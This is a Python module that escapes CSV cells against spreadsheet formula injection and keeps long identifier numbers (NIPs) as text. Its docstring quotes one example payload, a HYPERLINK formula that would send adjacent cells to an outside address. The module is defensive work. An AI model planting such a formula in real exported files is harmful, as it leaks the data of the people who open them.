"""Texts written into CSV files that people open in spreadsheets.

A cell starting with = + - @ (or a tab or carriage return) is run as a formula by Excel, LibreOffice and Google
Sheets: a recorded text (an SK reference, a unit, a post's title) such as `=HYPERLINK("http://...?d="&A1,"x")`
becomes a link sending the cells beside it away. `defused` writes such a text behind an apostrophe, which the
spreadsheet shows as text; a number (a negative one too) stays a number (OWASP, "CSV Injection").

A number that is no quantity, an 18-digit NIP, a spreadsheet opening a CSV turns into a number it shows as
1.97912E+17 and keeps 15 of its digits of (saved back, another person's NIP): `kept_as_text` writes it as the formula
of its text alone, `="197912...`, which Excel, LibreOffice and Google Sheets show as its 18 digits, and which
careerlog's import reads back as the NIP (careerlog.textfiles.nips_marked_as_text).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class KeptAsText(str):
    """A CSV cell of careerlog's own formula of a text alone (`kept_as_text`), which `defused` leaves as it is."""


def kept_as_text(digits: str) -> str:
    """Digits that are no quantity (a NIP) as a CSV cell a spreadsheet keeps as text: ="198609262010031001"."""
    return KeptAsText(f'="{digits}"') if digits.isascii() and digits.isdigit() else digits


def defused(text: str) -> str:
    """The text as a CSV cell a spreadsheet shows and never runs (a cell `kept_as_text`, careerlog's, as it is)."""
    if type(text) is KeptAsText:
        return text
    if text.startswith(FORMULA_STARTS) and not _is_number(text):
        return "'" + text
    return text


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
